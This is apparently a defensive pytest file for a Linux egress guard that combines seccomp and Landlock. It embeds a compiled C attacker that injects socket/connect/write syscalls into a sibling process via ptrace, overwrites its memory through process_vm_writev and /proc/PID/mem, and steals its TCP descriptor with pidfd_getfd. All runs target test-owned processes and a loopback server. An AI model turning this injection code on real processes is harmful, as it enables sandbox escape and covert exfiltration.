"""The egress guard cannot be walked around through another process of the same user.

The attack: a process under the fr-pbd guard cannot open a TCP socket itself, so it makes
another process of the same user do it: ptrace-inject socket+connect+write into it, write
into its memory (``process_vm_writev``, ``/proc/PID/mem``) or steal a TCP descriptor it holds
(``pidfd_getfd``). Each attack is a small C program compiled here with gcc, run against a
sibling process (a Python loop of the same uid, not a child of the attacker) and a loopback
TCP server in this test that records what reaches it:

* ``none``: the attacker runs without any guard (the unguarded control): the attack works;
* ``install``: the attacker is a child of a process that called ``fr_pbd.egress.install()``;
* ``cli``: the attacker is a child of a real ``fr-pbd`` command (``cli.main()`` as the console
  script runs it: hardening, then the guard, then the command, here replaced by the attacker);
* ``landlock``: the Landlock domain alone (``egress._load_landlock``), the second layer;
* ``seccomp``: the seccomp filter alone (``egress._load_filter``), to show what it cannot stop
  (``/proc/PID/mem`` goes through ``open``+``write``) and so what the Landlock layer is for.

Attacker and victim run as an unprivileged uid (one no account has, through ``setpriv``) when
the test runs as root, so the kernel's own same-uid rules apply as they would to alice; root's
``CAP_SYS_PTRACE`` would pass them all. Yama is not active on the development machine (no
``/proc/sys/kernel/yama``); where it is (scope 1), the victim names any process as its tracer
with ``PR_SET_PTRACER``, so the control still shows the attack, and scopes 2 and 3 skip it.
"""

from __future__ import annotations

import json
import os
import platform
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from tests.conftest import missing, need_root, need_tool
from tests.helpers import absent_uid

ATTACKER_C = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif

/* One line per step: "STEP ok VALUE" or "STEP err ERRNONAME". */
static int err(const char *step, int e) {
    const char *n = strerrorname_np(e);
    printf("%s err %s\n", step, n ? n : "unknown");
    return 1;
}
static void ok(const char *step, long v) { printf("%s ok %ld\n", step, v); }

#if defined(__x86_64__)
/* Run one system call in the stopped tracee at sysaddr (a `syscall` instruction). */
static long inject(pid_t pid, const struct user_regs_struct *saved, unsigned long sysaddr, long nr,
                   long a0, long a1, long a2) {
    struct user_regs_struct r = *saved;
    int st;
    r.rip = sysaddr; r.rax = nr; r.orig_rax = -1; r.rdi = a0; r.rsi = a1; r.rdx = a2;
    if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0) return -errno;
    if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0) return -errno;
    if (waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st)) return -ECHILD;
    if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) return -errno;
    return (long)r.rax;
}
#endif

static int do_ptrace(pid_t pid, int port, const char *msg) {
    int st;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) return err("ptrace-attach", errno);
    ok("ptrace-attach", 0);
    if (waitpid(pid, &st, __WALL) < 0) return err("waitpid", errno);
#if defined(__x86_64__)
    struct user_regs_struct saved;
    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) return err("getregs", errno);
    unsigned long ip = saved.rip, sysaddr = ip;
    long code = 0, w;
    int patched = 0;
    errno = 0;
    w = ptrace(PTRACE_PEEKTEXT, pid, ip - 2, 0);
    if (errno == 0 && (w & 0xffff) == 0x050f) {
        sysaddr = ip - 2;  /* stopped in a system call: reuse its instruction */
    } else {
        code = ptrace(PTRACE_PEEKTEXT, pid, ip, 0);
        ptrace(PTRACE_POKETEXT, pid, ip, (code & ~0xffffL) | 0x050f);
        patched = 1;
    }
    unsigned long scratch = (saved.rsp - 4096) & ~0xfUL;  /* well below the red zone */
    long keep[8];
    unsigned char buf[64];
    memset(buf, 0, sizeof buf);
    struct sockaddr_in sa;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET; sa.sin_port = htons(port); inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
    memcpy(buf, &sa, sizeof sa);
    size_t n = strlen(msg); if (n > 40) n = 40;
    memcpy(buf + 16, msg, n);
    for (int i = 0; i < 8; i++) {
        long v;
        keep[i] = ptrace(PTRACE_PEEKDATA, pid, scratch + 8 * i, 0);
        memcpy(&v, buf + 8 * i, 8);
        ptrace(PTRACE_POKEDATA, pid, scratch + 8 * i, v);
    }
    long fd = inject(pid, &saved, sysaddr, SYS_socket, AF_INET, SOCK_STREAM, 0);
    if (fd < 0) err("inject-socket", (int)-fd); else ok("inject-socket", fd);
    if (fd >= 0) {
        long rc = inject(pid, &saved, sysaddr, SYS_connect, fd, (long)scratch, 16);
        if (rc < 0) err("inject-connect", (int)-rc); else ok("inject-connect", rc);
        rc = inject(pid, &saved, sysaddr, SYS_write, fd, (long)(scratch + 16), (long)n);
        if (rc < 0) err("inject-write", (int)-rc); else ok("inject-write", rc);
        inject(pid, &saved, sysaddr, SYS_close, fd, 0, 0);
    }
    for (int i = 0; i < 8; i++) ptrace(PTRACE_POKEDATA, pid, scratch + 8 * i, keep[i]);
    if (patched) ptrace(PTRACE_POKETEXT, pid, ip, code);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return 0;
#else
    ptrace(PTRACE_DETACH, pid, 0, 0);
    printf("inject-socket err unsupported-architecture\n");
    return 0;
#endif
}

static int do_vm(pid_t pid, unsigned long addr, const char *marker) {
    char back[64];
    size_t n = strlen(marker);
    if (n > 60) n = 60;
    struct iovec local = {back, n}, remote = {(void *)addr, n};
    memset(back, 0, sizeof back);
    if (process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0) err("process_vm_readv", errno);
    else printf("process_vm_readv ok %s\n", back);
    local.iov_base = (void *)marker;
    local.iov_len = remote.iov_len = n + 1;  /* with its NUL: the victim sees the marker alone */
    if (process_vm_writev(pid, &local, 1, &remote, 1, 0) < 0) err("process_vm_writev", errno);
    else ok("process_vm_writev", (long)n);
    return 0;
}

static int do_procmem(pid_t pid, unsigned long addr, const char *marker) {
    char back[64];
    size_t n = strlen(marker);
    if (n > 60) n = 60;
    memset(back, 0, sizeof back);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int fd = open(path, O_RDWR);
    if (fd < 0) return err("open-mem", errno);
    ok("open-mem", fd);
    if (pwrite(fd, marker, n + 1, (off_t)addr) < 0) err("pwrite-mem", errno); else ok("pwrite-mem", (long)n);
    if (pread(fd, back, n, (off_t)addr) < 0) err("pread-mem", errno); else printf("pread-mem ok %s\n", back);
    return 0;
}

static int do_procfiles(pid_t pid) {
    const char *names[] = {"environ", "maps", "mem"};
    char path[64], link[256];
    for (int i = 0; i < 3; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, names[i]);
        int fd = open(path, O_RDONLY);
        if (fd < 0) err(names[i], errno); else { ok(names[i], 0); close(fd); }
    }
    snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
    if (readlink(path, link, sizeof link) < 0) err("exe", errno); else ok("exe", 0);
    return 0;
}

static int do_getfd(pid_t pid, int target, const char *msg, const char *unix_path) {
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) err("pidfd_open", errno); else ok("pidfd_open", pidfd);
    /* A pidfd that needs no pidfd_open: the peer of a Unix socket the victim listens on. */
    int u = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un sun;
    memset(&sun, 0, sizeof sun);
    sun.sun_family = AF_UNIX;
    strncpy(sun.sun_path, unix_path, sizeof sun.sun_path - 1);
    int peer = -1;
    socklen_t len = sizeof peer;
    if (u < 0 || connect(u, (struct sockaddr *)&sun, sizeof sun) < 0) err("unix-connect", errno);
    else if (getsockopt(u, SOL_SOCKET, SO_PEERPIDFD, &peer, &len) < 0) err("so_peerpidfd", errno);
    else ok("so_peerpidfd", peer);
    int use = pidfd >= 0 ? pidfd : peer;
    if (use < 0) return err("pidfd_getfd", EBADF);
    int fd = (int)syscall(SYS_pidfd_getfd, use, target, 0);
    if (fd < 0) return err("pidfd_getfd", errno);
    ok("pidfd_getfd", fd);
    if (write(fd, msg, strlen(msg)) < 0) return err("write-stolen", errno);
    ok("write-stolen", (long)strlen(msg));
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 5) { fprintf(stderr, "usage: attack MODE PID ARG MSG [UNIXPATH]\n"); return 2; }
    pid_t pid = (pid_t)atoi(argv[2]);
    if (!strcmp(argv[1], "ptrace")) return do_ptrace(pid, atoi(argv[3]), argv[4]);
    if (!strcmp(argv[1], "vm")) return do_vm(pid, strtoul(argv[3], NULL, 0), argv[4]);
    if (!strcmp(argv[1], "procmem")) return do_procmem(pid, strtoul(argv[3], NULL, 0), argv[4]);
    if (!strcmp(argv[1], "procfiles")) return do_procfiles(pid);
    if (!strcmp(argv[1], "getfd") && argc > 5) return do_getfd(pid, atoi(argv[3]), argv[4], argv[5]);
    fprintf(stderr, "unknown mode %s\n", argv[1]);
    return 2;
}
"""

# The victim: another process of the same user, not under any guard, not a child of the attacker.
VICTIM = r"""
import ctypes, json, os, socket, sys, time
mode, port, unix_path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
try:
    with open("/proc/sys/kernel/yama/ptrace_scope") as f:
        if f.read().strip() == "1":  # Yama: let any process of this uid attach, as it was without Yama
            ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)
except OSError:
    pass
buf = ctypes.create_string_buffer(b"A" * 31, 32)
out = {"pid": os.getpid(), "addr": ctypes.addressof(buf), "fd": -1}
if mode == "getfd":
    tcp = socket.create_connection(("127.0.0.1", port), timeout=5)  # a descriptor worth stealing
    out["fd"] = tcp.fileno()
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(unix_path)
    unix.listen(8)
print(json.dumps(out), flush=True)
sys.stdin.readline()  # wait, in a system call, until the test asks what is in the buffer now
print("BUFFER " + buf.value.decode("ascii", "replace"), flush=True)
"""

GUARDED_RUNNER = r"""
import subprocess, sys
guard, argv = sys.argv[1], sys.argv[2:]

def attack(args=None):
    return subprocess.run(argv, timeout=60).returncode

from fr_pbd import egress
if guard == "install":
    egress.install()
    sys.exit(attack())
if guard == "seccomp":
    assert egress._load_filter() == "", "the seccomp filter did not load"
    sys.exit(attack())
if guard == "landlock":
    assert egress._load_landlock() == "", "the Landlock domain did not load"
    sys.exit(attack())
if guard == "cli":
    import fr_pbd.cli.models as models
    from fr_pbd import cli
    models.cmd_models_list = attack
    sys.argv = ["fr-pbd", "models", "list"]
    sys.exit(cli.main())
raise SystemExit(f"unknown guard {guard}")
"""


class Server:
    """A TCP server on 127.0.0.1 only, in this process: every connection and the bytes it carried."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.1)  # bounded accept: the loop sees the stop flag
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.data: list[bytes] = []
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._accept, daemon=True)]
        self._threads[0].start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with self._lock:
                self.connections += 1
                self.data.append(b"")
                slot = len(self.data) - 1
            t = threading.Thread(target=self._read, args=(conn, slot), daemon=True)
            self._threads.append(t)
            t.start()

    def _read(self, conn: socket.socket, slot: int) -> None:
        conn.settimeout(0.1)
        deadline = time.monotonic() + 30
        with conn:
            while not self._stop.is_set() and time.monotonic() < deadline:
                try:
                    chunk = conn.recv(4096)
                except TimeoutError:
                    continue
                except OSError:
                    return
                if not chunk:
                    return
                with self._lock:
                    self.data[slot] += chunk

    def received(self) -> bytes:
        with self._lock:
            return b"".join(self.data)

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(timeout=5)
        self.sock.close()


@pytest.fixture
def server():
    srv = Server()
    yield srv
    srv.close()


@pytest.fixture(scope="module")
def lab():
    """A world-readable folder with the compiled attacker and the scripts, and how to drop to one uid."""
    gcc = need_tool("gcc", "gcc")  # the ptrace escape attacker is compiled in the test
    yama = Path("/proc/sys/kernel/yama/ptrace_scope")
    if yama.exists() and yama.read_text().strip() not in ("0", "1"):
        pytest.skip(f"Yama ptrace_scope {yama.read_text().strip()}: no same-uid ptrace to show as the control")
    folder = Path(tempfile.mkdtemp(prefix="fr-pbd-ptrace-"))
    try:
        folder.chmod(0o755)
        (folder / "attack.c").write_text(ATTACKER_C)
        p = subprocess.run([gcc, "-O1", "-Wall", "-o", str(folder / "attack"), str(folder / "attack.c")],
                           capture_output=True, text=True, timeout=120)
        if p.returncode != 0:
            pytest.fail(f"the attacker does not compile: {p.stderr.strip()[-2000:]}")
        (folder / "victim.py").write_text(VICTIM)
        (folder / "guarded.py").write_text(GUARDED_RUNNER)
        for f in folder.iterdir():
            f.chmod(0o755)
        (folder / "run").mkdir()  # the victims' Unix sockets: the attack's uid must create them
        drop: list[str] = []
        if os.geteuid() == 0:  # root runs the attack as an unprivileged uid: one no account (no process) has
            setpriv = need_tool("setpriv", "util-linux")
            uid = absent_uid()
            os.chown(folder / "run", uid, uid)
            drop = [setpriv, f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]
        yield folder, drop
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def _env() -> dict[str, str]:
    src = str(Path(__file__).resolve().parents[1] / "src")
    return dict(os.environ, PYTHONPATH=os.pathsep.join(p for p in (src, os.environ.get("PYTHONPATH")) if p))


def run_attack(lab, server: Server, mode: str, guard: str, attacker_as_root: bool = False) -> dict:
    """Start the victim, run the attacker under ``guard``; what the attacker said and what the victim saw."""
    folder, drop = lab
    attacker_drop = [] if attacker_as_root else drop
    marker = f"leak-{mode}-{guard}-{os.getpid()}"
    unix_path = str(folder / "run" / f"victim-{mode}-{guard}.sock")
    victim = subprocess.Popen([*drop, sys.executable, str(folder / "victim.py"), mode, str(server.port), unix_path],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                              cwd=folder, env=_env())
    try:
        line = victim.stdout.readline()  # the victim's pid and addresses (it prints them at once)
        assert line, victim.stderr.read() if victim.poll() is not None else "the victim printed nothing"
        info = json.loads(line)
        arg = {"ptrace": str(server.port), "vm": hex(info["addr"]), "procmem": hex(info["addr"]),
               "getfd": str(info["fd"]), "procfiles": "0"}[mode]
        argv = [str(folder / "attack"), mode, str(info["pid"]), arg, marker, unix_path]
        if guard != "none":
            argv = [sys.executable, str(folder / "guarded.py"), guard, *argv]
        att = subprocess.run([*attacker_drop, *argv], capture_output=True, text=True, timeout=90, cwd=folder,
                             env=_env())
        steps = {}
        for out_line in att.stdout.splitlines():
            parts = out_line.split(" ", 2)
            if len(parts) == 3 and parts[1] in ("ok", "err"):
                steps[parts[0]] = parts[1] + " " + parts[2]
        alive = victim.poll() is None
        victim_out = ""
        if alive:
            victim_out, _ = victim.communicate("report\n", timeout=30)
        time.sleep(0.2)  # bytes the server is still reading count
    finally:
        if victim.poll() is None:
            victim.kill()
            victim.communicate(timeout=30)
    changed = [ln.split(" ", 1)[1] for ln in victim_out.splitlines()
               if ln.startswith("BUFFER ") and ln != "BUFFER " + "A" * 31]
    return {"steps": steps, "rc": att.returncode, "stderr": att.stderr.strip()[-1500:], "marker": marker,
            "victim_alive": alive, "victim_saw": changed, "server": server.received(),
            "connections": server.connections}


def attack_reached(out: dict) -> bool:
    marker = out["marker"]
    return marker.encode() in out["server"] or marker in out["victim_saw"]


GUARDS = ["none", "install", "cli", "landlock"]


def refused(guard: str) -> str:
    """The answer to a call the guard refuses: the seccomp filter's EACCES, or the kernel's EPERM where
    only the Landlock domain stands in the way (its ptrace-mode check fails as other checks do)."""
    return "err EPERM" if guard == "landlock" else "err EACCES"


@pytest.fixture(scope="module")
def kernel_filter():
    code = "from fr_pbd import egress; egress.install(); print(egress.enforcement())"
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, env=_env())
    if not p.stdout.startswith("kernel"):
        missing(f"no kernel filter here: {p.stdout.strip() or p.stderr.strip()}")
    return p.stdout.strip()


@pytest.mark.parametrize("guard", GUARDS)
def test_ptrace_injection_into_a_sibling(lab, server, guard, kernel_filter):
    if guard == "none" and platform.machine() not in ("x86_64", "amd64"):
        pytest.skip("the injection code of the attacker is x86_64 only (the refusal is checked on every arch)")
    out = run_attack(lab, server, "ptrace", guard)
    if guard == "none":
        # the control: the sibling opened a TCP connection and sent the marker for the attacker
        assert out["steps"].get("inject-write", "").startswith("ok"), out
        assert out["marker"].encode() in out["server"] and out["victim_alive"], out
        return
    assert out["steps"] == {"ptrace-attach": refused(guard)}, out
    assert out["server"] == b"" and out["connections"] == 0 and out["victim_alive"], out


@pytest.mark.parametrize("guard", GUARDS)
def test_process_vm_writev_into_a_sibling(lab, server, guard, kernel_filter):
    out = run_attack(lab, server, "vm", guard)
    if guard == "none":
        assert out["steps"]["process_vm_readv"] == "ok " + "A" * len(out["marker"]), out
        assert out["steps"]["process_vm_writev"].startswith("ok") and out["victim_saw"] == [out["marker"]], out
        return
    assert out["steps"] == {"process_vm_readv": refused(guard), "process_vm_writev": refused(guard)}, out
    assert out["victim_saw"] == [] and out["victim_alive"], out


@pytest.mark.parametrize("guard", GUARDS)
def test_pidfd_getfd_steals_a_siblings_tcp_socket(lab, server, guard, kernel_filter):
    out = run_attack(lab, server, "getfd", guard)
    assert out["connections"] == 1, out  # the victim's own connection, made before the attack
    if guard == "none":
        assert out["steps"]["pidfd_getfd"].startswith("ok") and out["steps"]["write-stolen"].startswith("ok"), out
        assert out["marker"].encode() in out["server"], out
        return
    # The filter refuses pidfd_open; a pidfd still comes from SO_PEERPIDFD (a Unix socket to the
    # victim), and pidfd_getfd refuses it: the theft, not the handle, is what is closed.
    assert out["steps"]["pidfd_open"].startswith("ok") if guard == "landlock" else \
        out["steps"]["pidfd_open"] == "err EACCES", out
    assert out["steps"]["so_peerpidfd"].startswith("ok"), out
    assert out["steps"]["pidfd_getfd"] == refused(guard), out
    assert "write-stolen" not in out["steps"] and out["server"] == b"", out


@pytest.mark.parametrize("guard", [*GUARDS, "seccomp"])
def test_proc_pid_mem_write_into_a_sibling(lab, server, guard, kernel_filter):
    out = run_attack(lab, server, "procmem", guard)
    if guard in ("none", "seccomp"):
        # open()+pwrite() on /proc/PID/mem: seccomp sees an open of a path it cannot read, so
        # the filter alone lets it through (the second control); the Landlock domain closes it
        assert out["steps"]["open-mem"].startswith("ok") and out["victim_saw"] == [out["marker"]], out
        return
    assert out["steps"] == {"open-mem": "err EACCES"}, out  # mm_access answers EACCES for any refusal
    assert out["victim_saw"] == [] and out["victim_alive"], out


@pytest.mark.parametrize("guard", ["none", "seccomp", "install"])
def test_root_under_the_guard_cannot_reach_another_process_either(lab, server, guard, kernel_filter):
    # Root passes every same-uid and dumpable check (CAP_SYS_PTRACE); the Landlock domain binds it too.
    if os.geteuid() != 0:
        need_root("the attacker as root and the victim as another uid")
    out = run_attack(lab, server, "procmem", guard, attacker_as_root=True)
    if guard in ("none", "seccomp"):
        assert out["steps"]["open-mem"].startswith("ok") and out["victim_saw"] == [out["marker"]], out
        return
    assert out["steps"] == {"open-mem": "err EACCES"}, out
    assert out["victim_saw"] == [] and out["victim_alive"], out



@pytest.mark.parametrize("guard", ["none", "install"])
def test_a_siblings_environ_maps_and_exe_are_closed_too(lab, server, guard, kernel_filter):
    # The same ptrace-mode check guards the other /proc/PID files that need one (read mode here).
    out = run_attack(lab, server, "procfiles", guard)
    expected = "ok 0" if guard == "none" else "err EACCES"
    assert out["steps"] == dict.fromkeys(("environ", "maps", "mem", "exe"), expected), out
